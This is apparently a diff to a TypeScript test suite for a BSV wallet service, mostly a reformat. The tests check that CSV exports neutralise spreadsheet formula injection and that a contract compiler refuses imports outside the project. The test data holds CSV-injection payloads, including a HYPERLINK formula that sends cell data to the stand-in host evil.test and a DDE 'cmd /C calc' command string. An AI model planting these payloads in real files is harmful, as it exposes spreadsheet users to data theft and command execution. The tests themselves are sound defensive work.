@@ -47,23 +47,32 @@ function parseCsv(text: string): string[][] {
 
 const FORMULA = /^[=+\-@\t\r]/;
 
-describe('exports: a stranger\'s text never becomes a spreadsheet formula (OWASP CSV injection)', () => {
+describe("exports: a stranger's text never becomes a spreadsheet formula (OWASP CSV injection)", () => {
   it('every text cell that would start a formula is prefixed with a quote, and the file still parses to the same cells', () => {
     fc.assert(
-      fc.property(fc.array(fc.array(fc.oneof(fc.string(), fc.constantFrom('=1+1', '+SUM(A1)', '-2+3', '@cmd', '\t=x', '\r=x', '=HYPERLINK("http://x","y")')), { minLength: 1, maxLength: 5 }), { maxLength: 5 }), (rows) => {
-        const width = Math.max(1, ...rows.map((r) => r.length));
-        const head = Array.from({ length: width }, (_, i) => `c${i}`);
-        const padded = rows.map((r) => [...r, ...Array(width - r.length).fill('')]);
-        const back = parseCsv(csvFile(head, padded));
-        assert.deepEqual(back[0], head);
-        back.slice(1).forEach((r, i) =>
-          r.forEach((cell, j) => {
-            assert.ok(!FORMULA.test(cell), `cell ${JSON.stringify(cell)} would run as a formula`);
-            const original = padded[i][j];
-            assert.equal(cell, FORMULA.test(original) ? `'${original}` : original);
-          }),
-        );
-      }),
+      fc.property(
+        fc.array(
+          fc.array(
+            fc.oneof(fc.string(), fc.constantFrom('=1+1', '+SUM(A1)', '-2+3', '@cmd', '\t=x', '\r=x', '=HYPERLINK("http://x","y")')),
+            { minLength: 1, maxLength: 5 },
+          ),
+          { maxLength: 5 },
+        ),
+        (rows) => {
+          const width = Math.max(1, ...rows.map((r) => r.length));
+          const head = Array.from({ length: width }, (_, i) => `c${i}`);
+          const padded = rows.map((r) => [...r, ...Array(width - r.length).fill('')]);
+          const back = parseCsv(csvFile(head, padded));
+          assert.deepEqual(back[0], head);
+          back.slice(1).forEach((r, i) =>
+            r.forEach((cell, j) => {
+              assert.ok(!FORMULA.test(cell), `cell ${JSON.stringify(cell)} would run as a formula`);
+              const original = padded[i][j];
+              assert.equal(cell, FORMULA.test(original) ? `'${original}` : original);
+            }),
+          );
+        },
+      ),
     );
   });
 
@@ -78,7 +87,9 @@ describe('exports: a stranger\'s text never becomes a spreadsheet formula (OWASP
     let org: Org;
     let walletID: string;
     before(async () => {
-      org = await setUpOrg(await startHeadless({ dataDir: tempDir(), password: 'pw', args: ['--mine-interval', '0', '--paymail-domain', 'acme.test'] }));
+      org = await setUpOrg(
+        await startHeadless({ dataDir: tempDir(), password: 'pw', args: ['--mine-interval', '0', '--paymail-domain', 'acme.test'] }),
+      );
       walletID = await createOrgWallet(org, { walletTitle: 'Shop', paymail: 'shop', paymailActivate: true });
     });
     after(() => org.host.stop());
@@ -87,17 +98,26 @@ describe('exports: a stranger\'s text never becomes a spreadsheet formula (OWASP
       const payer = PrivateKey.fromRandom();
       const f = await orgCall(org, 'POST', '/chain/faucet', { body: { address: payer.toAddress(), satoshis: 20_000 } });
       assert.equal(f.status, 200, JSON.stringify(f.body));
-      const source = Transaction.fromHex((await request(org.host.url, 'GET', `/chain/woc/v1/bsv/local/tx/${f.body.data.txid}/hex`)).body as string);
-      const dest = await request(org.host.url, 'POST', '/api/bsvalias/p2p-payment-destination/shop@acme.test', { body: { satoshis: 5_000 } });
+      const source = Transaction.fromHex(
+        (await request(org.host.url, 'GET', `/chain/woc/v1/bsv/local/tx/${f.body.data.txid}/hex`)).body as string,
+      );
+      const dest = await request(org.host.url, 'POST', '/api/bsvalias/p2p-payment-destination/shop@acme.test', {
+        body: { satoshis: 5_000 },
+      });
       assert.equal(dest.status, 200, JSON.stringify(dest.body));
       const tx = new Transaction();
-      tx.addInput({ sourceTransaction: source, sourceOutputIndex: source.outputs.findIndex((o) => o.satoshis === 20_000), unlockingScriptTemplate: new P2PKH().unlock(payer) });
-      for (const o of dest.body.outputs as { script: string; satoshis: number }[]) tx.addOutput({ lockingScript: LockingScript.fromHex(o.script), satoshis: o.satoshis });
+      tx.addInput({
+        sourceTransaction: source,
+        sourceOutputIndex: source.outputs.findIndex((o) => o.satoshis === 20_000),
+        unlockingScriptTemplate: new P2PKH().unlock(payer),
+      });
+      for (const o of dest.body.outputs as { script: string; satoshis: number }[])
+        tx.addOutput({ lockingScript: LockingScript.fromHex(o.script), satoshis: o.satoshis });
       tx.addOutput({ lockingScript: new P2PKH().lock(payer.toAddress()), change: true });
       await tx.fee(new SatoshisPerKilobyte(1));
       await tx.sign();
       const memo = `=HYPERLINK("http://evil.test/?"&A1,"Invoice")`;
-      const sender = '@SUM(1+1)*cmd|\' /C calc\'!A0';
+      const sender = "@SUM(1+1)*cmd|' /C calc'!A0";
       const r = await request(org.host.url, 'POST', '/api/bsvalias/receive-transaction/shop@acme.test', {
         body: { hex: tx.toHex(), reference: dest.body.reference, metadata: { sender, note: memo } },
       });
@@ -112,7 +132,9 @@ describe('exports: a stranger\'s text never becomes a spreadsheet formula (OWASP
       assert.ok(row.counterparty?.toLowerCase().startsWith('@sum'), `the API gives the sender as it was named: ${row.counterparty}`);
 
       const cells = parseCsv(historyCsv(entries)).slice(1);
-      for (const cell of cells.flat()) if (typeof cell === 'string' && !/^-?\d+$/.test(cell)) assert.ok(!FORMULA.test(cell), `exported cell ${JSON.stringify(cell)} would run`);
+      for (const cell of cells.flat())
+        if (typeof cell === 'string' && !/^-?\d+$/.test(cell))
+          assert.ok(!FORMULA.test(cell), `exported cell ${JSON.stringify(cell)} would run`);
       const exported = cells.find((c) => c[1] === row.txid)!;
       assert.equal(exported[7], `'${memo}`);
       assert.ok(exported[6].toLowerCase().startsWith("'@sum"), exported[6]);
@@ -121,7 +143,12 @@ describe('exports: a stranger\'s text never becomes a spreadsheet formula (OWASP
 });
 
 describe('the offline compiler reads imports only inside the project, and never too much', () => {
-  const cli = (args: string[], cwd: string) => spawnSync(process.execPath, ['--import', import.meta.resolve('tsx'), path.join(ROOT, 'main', 'cli.ts'), ...args], { cwd, encoding: 'utf8', timeout: 60_000 });
+  const cli = (args: string[], cwd: string) =>
+    spawnSync(process.execPath, ['--import', import.meta.resolve('tsx'), path.join(ROOT, 'main', 'cli.ts'), ...args], {
+      cwd,
+      encoding: 'utf8',
+      timeout: 60_000,
+    });
   const contract = (imports: string[]) => `${imports.map((i) => `import "${i}";`).join('\n')}
 contract Main {
   int x;
@@ -144,13 +171,13 @@ contract Main {
     writeFileSync(path.join(outside, 'util.scrypt'), util);
   });
 
-  it('compiles with an import below the entry file\'s folder', () => {
+  it("compiles with an import below the entry file's folder", () => {
     writeFileSync(path.join(project, 'Good.scrypt'), contract(['lib/util.scrypt']));
     const r = cli(['compile', 'Good.scrypt'], project);
     assert.equal(r.status, 0, r.stderr);
   });
 
-  it('refuses an import above the entry file\'s folder, absolute or relative, unless its folder is named with --import-root', () => {
+  it("refuses an import above the entry file's folder, absolute or relative, unless its folder is named with --import-root", () => {
     writeFileSync(path.join(project, 'Up.scrypt'), contract(['../shared-lib/util.scrypt']));
     const refused = cli(['compile', 'Up.scrypt'], project);
     assert.equal(refused.status, 1);
